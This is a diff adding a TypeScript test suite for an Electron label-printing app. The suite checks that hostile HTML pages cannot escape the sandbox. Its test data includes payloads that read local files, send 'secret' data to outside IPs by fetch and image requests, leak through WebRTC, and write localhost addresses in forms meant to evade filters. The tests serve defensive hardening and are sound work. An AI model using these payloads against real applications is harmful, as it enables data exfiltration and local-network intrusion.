@@ -1,0 +1,524 @@
+import { createSocket } from 'node:dgram';
+import { hostForLog } from '../../main/log/host-for-log.ts';
+import { startForbiddenHosts } from './forbidden-hosts.ts';
+import { labelHtml } from './label-html.ts';
+import { expect, type LabAnswer, readPageTexts, test } from './label-lab.ts';
+import { respondWithToken, startFakePartner } from './partner-process.ts';
+import { setToken, stationPage } from './station-page.ts';
+import { expectHardenedWindows } from './window-preferences.ts';
+
+/** What a hostile page is told of its surroundings. */
+interface Around {
+  readonly code: string;
+  readonly here: string;
+  readonly outside: string;
+}
+/** A label that a page draws whatever else it does. */
+const drawn = (code: string): string => `<p>${code}</p>`;
+const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>';
+/** Says what became of a try, so that the test sees that it was tried. */
+const tried = (name: string, expression: string): string =>
+  `<script>(async () => { try { console.log('${name}: ' + await (${expression})) } catch (error) { console.log('${name}: refused ' + error.name) } })()</script>`;
+
+/** The label is there, so it prints, whatever the page tries besides. The third is what Chromium says of the try. */
+const PRINTED: readonly [string, (around: Around) => string, RegExp?][] = [
+  ['alert', () => '<script>alert(1)</script>', /Ignored call to 'alert\(\)'/],
+  ['confirm', () => '<script>confirm(1)</script>', /Ignored call to 'confirm\(\)'/],
+  ['prompt', () => '<script>prompt(1)</script>', /Ignored call to 'prompt\(\)'/],
+  ['window.print', () => '<script>print()</script>', /Ignored call to 'print\(\)'/],
+  [
+    'window.open',
+    ({ outside }) => tried('open', `window.open('${outside}/popup')`),
+    /Blocked opening .* 'allow-popups'/,
+  ],
+  [
+    'a link to a new window, pressed by script',
+    ({ outside }) =>
+      `<a target="_blank" href="${outside}/link">x</a><script>document.querySelector('a').click()</script>`,
+    /Blocked opening .* 'allow-popups'/,
+  ],
+  ['location =', ({ outside }) => `<script>location = '${outside}/away'</script>`],
+  ['location = its own host', ({ here }) => `<script>location = '${here}/elsewhere'</script>`],
+  ['location.reload', () => '<script>addEventListener("load", () => location.reload())</script>'],
+  [
+    'location = after load',
+    ({ outside }) => `<script>setTimeout(() => { location = '${outside}/away' }, 5)</script>`,
+  ],
+  [
+    'a link, pressed by script',
+    ({ outside }) => `<a href="${outside}/link">x</a><script>document.querySelector('a').click()</script>`,
+  ],
+  ['a refresh', ({ outside }) => `<meta http-equiv="refresh" content="0; url=${outside}/refresh">`],
+  [
+    'a form',
+    ({ outside }) =>
+      `<form method="post" action="${outside}/form"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
+    /Blocked form submission|violates .*form-action/,
+  ],
+  [
+    'a download',
+    ({ here }) =>
+      `<a download href="${here}/file.zip">x</a><script>document.querySelector('a').click()</script>`,
+  ],
+  ['another host’s frame', ({ outside }) => `<iframe src="${outside}/frame"></iframe>`, /frame-src/],
+  ['a frame of its own host', ({ here }) => `<iframe src="${here}/frame"></iframe>`, /frame-src/],
+  [
+    'an object',
+    ({ outside }) => `<object data="${outside}/object"></object><embed src="${outside}/embed">`,
+    /object-src|frame-src/,
+  ],
+  ['a file by picture', () => '<img src="file:///etc/hostname">', /Not allowed to load local resource/],
+  [
+    'a file by frame',
+    () => '<iframe src="file:///etc/hostname"></iframe>',
+    /frame-src|Not allowed to load local/,
+  ],
+  [
+    'a file by fetch',
+    () => tried('file', "fetch('file:///etc/hostname').then((answer) => answer.text())"),
+    /file: refused/,
+  ],
+  [
+    'a file by XMLHttpRequest',
+    () =>
+      tried(
+        'file',
+        "new Promise((resolve, reject) => { const ask = new XMLHttpRequest(); ask.onload = () => resolve(ask.responseText); ask.onerror = reject; ask.open('GET', 'file:///etc/hostname'); ask.send() })",
+      ),
+    /file: refused/,
+  ],
+  [
+    'the app’s own scheme',
+    () => tried('app', "fetch('app://tem/index.html').then((answer) => answer.text())"),
+    /app: refused/,
+  ],
+  [
+    'another host’s data',
+    ({ outside }) => tried('data', `fetch('${outside}/data').then((answer) => answer.text())`),
+    /data: refused/,
+  ],
+  [
+    'another host’s data, sent there',
+    ({ outside }) =>
+      tried('data', `fetch('${outside}/data', { method: 'POST', mode: 'no-cors', body: 'x' })`),
+    /data: refused/,
+  ],
+  [
+    'a beacon',
+    ({ outside }) => tried('beacon', `navigator.sendBeacon('${outside}/beacon', 'x')`),
+    /beacon: /,
+  ],
+  [
+    'a WebSocket',
+    ({ outside }) =>
+      tried(
+        'socket',
+        `new Promise((resolve, reject) => { const socket = new WebSocket('${outside.replace('http', 'ws')}/socket'); socket.onopen = resolve; socket.onerror = reject })`,
+      ),
+    /connect-src/,
+  ],
+  [
+    'a worker',
+    ({ here }) =>
+      tried(
+        'worker',
+        `new Promise((resolve, reject) => { const worker = new Worker('${here}/worker.js'); worker.onerror = reject })`,
+      ),
+    /worker-src/,
+  ],
+  [
+    'a service worker',
+    ({ here }) => tried('service', `navigator.serviceWorker.register('${here}/service.js')`),
+    /service: refused/,
+  ],
+  [
+    'where it is',
+    () =>
+      tried(
+        'where',
+        'new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))',
+      ),
+    /where: refused/,
+  ],
+  [
+    'beforeunload',
+    () => '<script>onbeforeunload = (event) => { event.preventDefault(); return "stay" }</script>',
+  ],
+  ['a huge page', () => `<p>${'x '.repeat(300_000)}</p>`],
+  ['a deep page', () => '<div>'.repeat(20_000)],
+];
+for (const [what, page, said] of PRINTED) {
+  test(`${what}: the label prints, nothing gets out`, async ({ label, labApp, host, outside }) => {
+    const [code = ''] = host.codes;
+    const asked = { outside: outside.requests.length, host: host.requests.length };
+    const answer = await label(drawn(code) + page({ code, here: host.url, outside: outside.url }));
+    expect(answer.problem).toBeNull();
+    expect((await readPageTexts(answer)).join()).toContain(code);
+    expect(outside.requests.slice(asked.outside)).toEqual([]);
+    expect(host.requests.slice(asked.host)).toEqual([]);
+    if (said !== undefined) expect((await labApp.evaluate(() => labelLab.said)).join('\n')).toMatch(said);
+    // It is still the page that main was given.
+    expect(await labApp.evaluate(() => labelLab.address())).toContain('/orders/awb?token=t');
+    await expectNext(label, labApp, code);
+  });
+}
+
+type Label = (html: string) => Promise<LabAnswer>;
+type LabApp = { evaluate<Value>(work: () => Value): Promise<Value> };
+
+/** The next label prints, in the one window. */
+async function expectNext(label: Label, labApp: LabApp, code: string): Promise<void> {
+  const next = await label(drawn(code));
+  expect(next.problem).toBeNull();
+  expect(await readPageTexts(next)).toEqual([expect.stringContaining(code)]);
+  expect(await labApp.evaluate(() => labelLab.windows())).toBe(1);
+}
+
+const NEVER_QUIET: readonly [string, string][] = [
+  [
+    'changes for ever',
+    '<i></i><script>setInterval(() => { document.querySelector("i").textContent = performance.now() }, 5)</script>',
+  ],
+  ['asks for ever', '<script>(async () => { for (;;) await fetch("/data?" + Math.random()) })()</script>'],
+  ['waits for an answer that never comes', '<script>fetch("/never")</script>'],
+  [
+    'grows for ever',
+    '<script>setInterval(() => { for (let n = 0; n < 50; n++) document.body.append(document.createElement("i")) }, 5)</script>',
+  ],
+];
+for (const [what, html] of NEVER_QUIET) {
+  test(`a page that ${what} is taken as it is when the limit is over`, async ({ label, labApp, host }) => {
+    const [code = ''] = host.codes;
+    const answer = await label(drawn(code) + html);
+    expect(answer.problem).toBeNull();
+    expect(answer.settled?.quiet).toBe(false);
+    // The limit is 1,500 ms; a busy machine tells the page's timers late (3,151 ms were seen).
+    expect(answer.settled?.waitedMs).toBeLessThan(6_000);
+    expect((await readPageTexts(answer)).join()).toContain(code);
+    await expectNext(label, labApp, code);
+  });
+}
+
+test('pictures that never come are given up at the limit', async ({ label, labApp, host }) => {
+  const [code = ''] = host.codes;
+  const answer = await label(`<img src="/never.png">${drawn(code)}`);
+  expect(answer.problem).toBeNull();
+  expect((await readPageTexts(answer)).join()).toContain(code);
+  await expectNext(label, labApp, code);
+});
+
+test('a script that never comes holds up what stands below it only until the limit', async ({
+  label,
+  labApp,
+  host,
+}) => {
+  const [code = ''] = host.codes;
+  const answer = await label(`<script src="/never.js"></script>${drawn(code)}`);
+  expect(answer.problem).toBeNull();
+  expect((await readPageTexts(answer)).join()).toContain(code);
+  await expectNext(label, labApp, code);
+});
+
+test('a page that has nothing left to do is not waited for, one with a timer is', async ({ label, host }) => {
+  const [code = ''] = host.codes;
+  const waited: number[] = [];
+  for (let time = 0; time < 5; time++) {
+    const still = await label(drawn(code));
+    expect(still.settled?.quiet).toBe(true);
+    waited.push(still.settled?.waitedMs ?? Infinity);
+  }
+  // A page that is not known to be at rest is watched for 50 ms.
+  expect(Math.min(...waited)).toBeLessThan(45);
+  const late = `<p id="late"></p><script>
+    addEventListener("load", () => setTimeout(() => late.append("${code}"), 40));
+  </script>`;
+  expect((await readPageTexts(await label(late))).join()).toContain(code);
+});
+
+test('a picture that waits for being scrolled to is loaded', async ({ label, host }) => {
+  const [code = ''] = host.codes;
+  const far = '<div style="height:50000px"></div><img loading="lazy" width="10" height="10" src="/lazy.png">';
+  const answer = await label(drawn(code) + far);
+  expect(answer.settled?.quiet).toBe(true);
+  expect(host.requests).toContain('GET /lazy.png');
+});
+
+test('once a page is ready it is given nothing more', async ({ label, labApp, host }) => {
+  const [code = ''] = host.codes;
+  const html = `${drawn(code)}<script>addEventListener('beforeprint', () => fetch('/late').then(() => console.log('late: came'), () => console.log('late: refused')))</script>`;
+  expect((await label(html)).problem).toBeNull();
+  await expect.poll(() => labApp.evaluate(() => labelLab.said.join())).toContain('late: refused');
+  expect(host.requests).not.toContain('GET /late');
+});
+
+const HANGS: readonly [string, string, 'load' | 'render'][] = [
+  ['as it loads', '<script>for (;;);</script>', 'load'],
+  ['after it has loaded', '<script>addEventListener("load", () => { for (;;); })</script>', 'load'],
+  ['a moment later', '<script>setTimeout(() => { for (;;); }, 30)</script>', 'load'],
+  ['as it is printed', '<script>addEventListener("beforeprint", () => { for (;;); })</script>', 'render'],
+];
+for (const [when, html, at] of HANGS) {
+  test(`a script without end ${when} fails this label, in time`, async ({ label, labApp, host }) => {
+    const [code = ''] = host.codes;
+    const answer = await label(drawn(code) + html);
+    expect(answer.problem).toMatchObject({
+      code: 'label-page-failed',
+      values: { detail: expect.stringMatching(`^${at}: > \\d+ ms$`) },
+    });
+    expect(answer.milliseconds).toBeLessThan(8_000);
+    await expectNext(label, labApp, code);
+  });
+}
+
+test('a page that crashes fails this label', async ({ label, labApp, host }) => {
+  const [code = ''] = host.codes;
+  const answered = label(`${drawn(code)}<script>fetch("/never"); console.log("about to crash")</script>`);
+  await expect.poll(() => labApp.evaluate(() => labelLab.said)).toContain('about to crash');
+  await labApp.evaluate(({ BrowserWindow }) =>
+    BrowserWindow.getAllWindows()[0]?.webContents.forcefullyCrashRenderer(),
+  );
+  expect((await answered).problem).toMatchObject({ code: 'label-page-failed' });
+  await expectNext(label, labApp, code);
+});
+
+test('what a page leaves behind is not there for the next one', async ({ label, labApp, host }) => {
+  const [code = ''] = host.codes;
+  const leave = '<script>localStorage.setItem("a", "left"); document.cookie = "a=left"</script>';
+  expect((await label(drawn(code) + leave)).problem).toBeNull();
+  const look = '<script>console.log("found:" + localStorage.getItem("a") + document.cookie)</script>';
+  expect((await label(drawn(code) + look)).problem).toBeNull();
+  expect(await labApp.evaluate(() => labelLab.said)).toContain('found:null');
+});
+
+test('a page opened before is not printed in place of the one after it', async ({ label, labApp, host }) => {
+  const [first = '', second = ''] = host.codes;
+  expect((await label(drawn(first))).problem).toBeNull();
+  expect((await label(drawn(second))).problem).toBeNull();
+  const gone = { code: 'label-page-failed', values: { detail: expect.stringContaining('page gone') } };
+  expect((await labApp.evaluate(() => labelLab.again('before'))).problem).toMatchObject(gone);
+  // The one that is there is not harmed by that.
+  expect(await readPageTexts(await labApp.evaluate(() => labelLab.again('last')))).toEqual([
+    expect.stringContaining(second),
+  ]);
+  await labApp.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.destroy());
+  expect((await labApp.evaluate(() => labelLab.again('last'))).problem).toMatchObject(gone);
+  await expectNext(label, labApp, first);
+});
+
+/** Every way to write an address of this machine; `outside` listens there. */
+const THIS_MACHINE = [
+  '127.0.0.1',
+  '127.1',
+  '0x7f.1',
+  '0x7f000001',
+  '2130706433',
+  '0177.0.0.1',
+  'localhost',
+  'LOCALHOST.',
+  'any.localhost',
+  '0.0.0.0',
+  '[::1]',
+  '[::ffff:127.0.0.1]',
+  '[0:0:0:0:0:ffff:7f00:1]',
+];
+
+test('nothing of this machine is given to a page but the partner’s own, however its address is written', async ({
+  label,
+  labApp,
+  host,
+  outside,
+}) => {
+  const [code = ''] = host.codes;
+  const asked = outside.requests.length;
+  const { port } = new URL(outside.url);
+  const parts = THIS_MACHINE.flatMap((name) => [
+    `<img src="http://${name}:${port}/a.png">`,
+    `<script src="//${name}:${port}/a.js"></script>`,
+    `<link rel="stylesheet" href="http://${name}:${port}/a.css">`,
+  ]);
+  const answer = await label(`${parts.join('')}<img src="/own.png">${drawn(code)}`);
+  expect(answer.problem).toBeNull();
+  // What is refused is not waited for.
+  expect(answer.settled?.quiet).toBe(true);
+  expect((await readPageTexts(answer)).join()).toContain(code);
+  expect(outside.requests.slice(asked)).toEqual([]);
+  expect(host.requests).toContain('GET /own.png');
+  const refused = await labApp.evaluate(() => labelLab.logged);
+  const hosts = new Set(THIS_MACHINE.map((name) => new URL(`http://${name}`).hostname));
+  expect(refused).toHaveLength(hosts.size);
+  expect(refused).toEqual(
+    [...hosts].map((named) =>
+      expect.objectContaining({
+        event: 'label subresource refused',
+        host: hostForLog(named),
+        why: 'not-public',
+      }),
+    ),
+  );
+  expect(JSON.stringify(refused)).not.toContain('token');
+});
+
+test('a page of another host than the partner’s has no more of this machine than any other', async ({
+  label,
+  labApp,
+  host,
+}) => {
+  const [code = ''] = host.codes;
+  const answer = await label(`<img src="/private.png">${drawn(code)}`, { partner: [] });
+  expect(answer.problem).toBeNull();
+  expect(host.requests).not.toContain('GET /private.png');
+  expect(await labApp.evaluate(() => labelLab.logged)).toMatchObject([{ why: 'not-public' }]);
+});
+
+test('a script can turn to no host that the page does not name, nor send anything to one that it names', async ({
+  label,
+  labApp,
+  host,
+}) => {
+  const [code = ''] = host.codes;
+  // Both are public addresses, of which nobody is asked: 'new' is put together, 'named' stands in the page.
+  const html = `${drawn(code)}<script>
+    const at = (...parts) => 'https://' + parts.join('.');
+    new Image().src = at(8, 8, 8, 8) + '/?secret';
+    fetch(at(8, 8, 4, 4), { mode: 'no-cors' }).catch(() => undefined);
+    fetch('https://9.9.9.9/', { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => undefined);
+  </script>`;
+  expect((await label(html)).problem).toBeNull();
+  expect(await labApp.evaluate(() => labelLab.logged)).toEqual(
+    expect.arrayContaining([
+      expect.objectContaining({ host: '[public]', type: 'image', why: 'not-named' }),
+      expect.objectContaining({ host: '[public]', why: 'method' }),
+    ]),
+  );
+  // What scripts ask for themselves the page's policy refuses already.
+  expect((await labApp.evaluate(() => labelLab.said)).join()).toMatch(/8\.8\.4\.4.*connect-src/s);
+});
+
+test('a font is looked for where a stylesheet of the page says, and only there', async ({
+  label,
+  labApp,
+  host,
+}) => {
+  const [code = ''] = host.codes;
+  const font =
+    '<script>new FontFace("b", "url(http://10.255.255." + "2/b.woff)").load().catch(() => 0)</script>';
+  const html = `<link rel="stylesheet" href="/own.css">${drawn(code)}${font}`;
+  const answer = await label(html);
+  expect(answer.problem).toBeNull();
+  expect(answer.settled?.quiet).toBe(true);
+  // Named by the stylesheet, so that it is judged by its address; the other one nobody names.
+  expect(await labApp.evaluate(() => labelLab.logged)).toEqual(
+    expect.arrayContaining([
+      { event: 'label subresource refused', host: '[private]', type: 'font', why: 'not-public' },
+      { event: 'label subresource refused', host: '[private]', type: 'font', why: 'not-named' },
+    ]),
+  );
+});
+
+test('a part behind a certificate that nobody trusts is not asked for, be it the partner’s', async ({
+  label,
+  host,
+}) => {
+  const [code = ''] = host.codes;
+  const { tlsUrl, requests, close } = await startForbiddenHosts();
+  const partner = [new URL(host.url).origin, tlsUrl];
+  const answer = await label(`<img src="${tlsUrl}/a.png">${drawn(code)}`, { partner });
+  expect(answer.problem).toBeNull();
+  expect(requests).toEqual([]);
+  await close();
+});
+
+test('a page’s WebRTC sends no packet', async ({ label, labApp, host }) => {
+  const [code = ''] = host.codes;
+  let packets = 0;
+  const stun = createSocket('udp4', () => packets++);
+  await new Promise<void>((resolve) => stun.bind(0, resolve));
+  const { port } = stun.address();
+  const gathered = `new Promise((resolve) => {
+    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
+    const candidates = [];
+    connection.onicecandidate = ({ candidate }) =>
+      candidate === null ? resolve(candidates.length + ' candidates') : candidates.push(candidate);
+    connection.createDataChannel('x');
+    connection.setLocalDescription();
+  })`;
+  expect((await label(drawn(code) + tried('rtc', gathered))).problem).toBeNull();
+  await expect.poll(() => labApp.evaluate(() => labelLab.said)).toContain('rtc: 0 candidates');
+  expect(packets).toBe(0);
+  stun.close();
+});
+
+test('what keeps a page from WebRTC keeps no part from it, redirected, with a query, as data or a blob', async ({
+  label,
+  labApp,
+}) => {
+  const partner = await startFakePartner(({ url = '' }, response) => {
+    if (url.startsWith('/away')) response.writeHead(302, { location: '/part?a=1' }).end();
+    else response.writeHead(200, { 'content-type': 'image/svg+xml' }).end(SVG);
+  });
+  const shown = (name: string, src: string): string =>
+    `<img src="${src}" onload="console.log('${name}: ' + this.naturalWidth)">`;
+  const html = `<p>x</p>${shown('query', '/part?q=a%20b#c')}${shown('redirected', '/away?to')}
+    ${shown('data', `data:image/svg+xml,${encodeURIComponent(SVG)}`)}
+    <script>
+      const blob = URL.createObjectURL(new Blob([${JSON.stringify(SVG)}], { type: 'image/svg+xml' }));
+      document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(shown('blob', 'BLOB'))}.replace('BLOB', blob));
+      fetch('/part').then(({ status }) => console.log('fetched: ' + status));
+    </script>`;
+  expect(
+    (await label(html, { url: `${partner.url}/awb?token=t`, partner: [partner.url] })).problem,
+  ).toBeNull();
+  await expect
+    .poll(() => labApp.evaluate(() => labelLab.said))
+    .toEqual(expect.arrayContaining(['query: 7', 'redirected: 7', 'data: 7', 'blob: 7', 'fetched: 200']));
+  await partner.close();
+});
+
+test('the whole app: a hostile page is printed with its label only, in the two windows, and so is the next', async ({
+  harness,
+  fakePartner,
+  outside,
+}) => {
+  const asked = outside.requests.length;
+  let round = 0;
+  const partner = await fakePartner(
+    respondWithToken((_request, response) => {
+      const code = partner.codes[round++] ?? '';
+      response.setHeader('content-type', 'text/html; charset=utf-8');
+      response.end(`${labelHtml([{ barcodes: [code.split('.')[1] ?? ''], text: code }])}<script>
+        window.open('${outside.url}/popup'); alert(1); print();
+        fetch('${outside.url}/data'); location.href = '${outside.url}/away';
+      </script>`);
+    }),
+  );
+  harness.writeServiceSettings(partner);
+  const { app, page } = await harness.start();
+  await setToken(page, 'any');
+  for (const [at, code] of partner.codes.entries()) {
+    await stationPage(page).scan(code);
+    await page.keyboard.press('F9');
+    await expect
+      .poll(stationPage(page).states, { timeout: 20_000 })
+      .toEqual(partner.codes.slice(0, at + 1).map(() => 'printed'));
+  }
+  expect(outside.requests.slice(asked)).toEqual([]);
+  // The station's, and at most one for each of the two documents that are worked on at a time.
+  const windows = await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length);
+  expect(windows).toBeLessThanOrEqual(3);
+  await expectHardenedWindows(app);
+  // A label page has neither Tem's preload nor Node.
+  const globals = await app.evaluate(({ BrowserWindow }) =>
+    Promise.all(
+      BrowserWindow.getAllWindows()
+        .filter(({ webContents }) => !webContents.getURL().startsWith('app:'))
+        .map(
+          ({ webContents }): Promise<unknown> =>
+            webContents.executeJavaScript(
+              "['tem', 'require', 'process', 'module'].filter((name) => name in globalThis)",
+            ),
+        ),
+    ),
+  );
+  expect(globals).not.toEqual([]);
+  expect(globals.flat()).toEqual([]);
+});
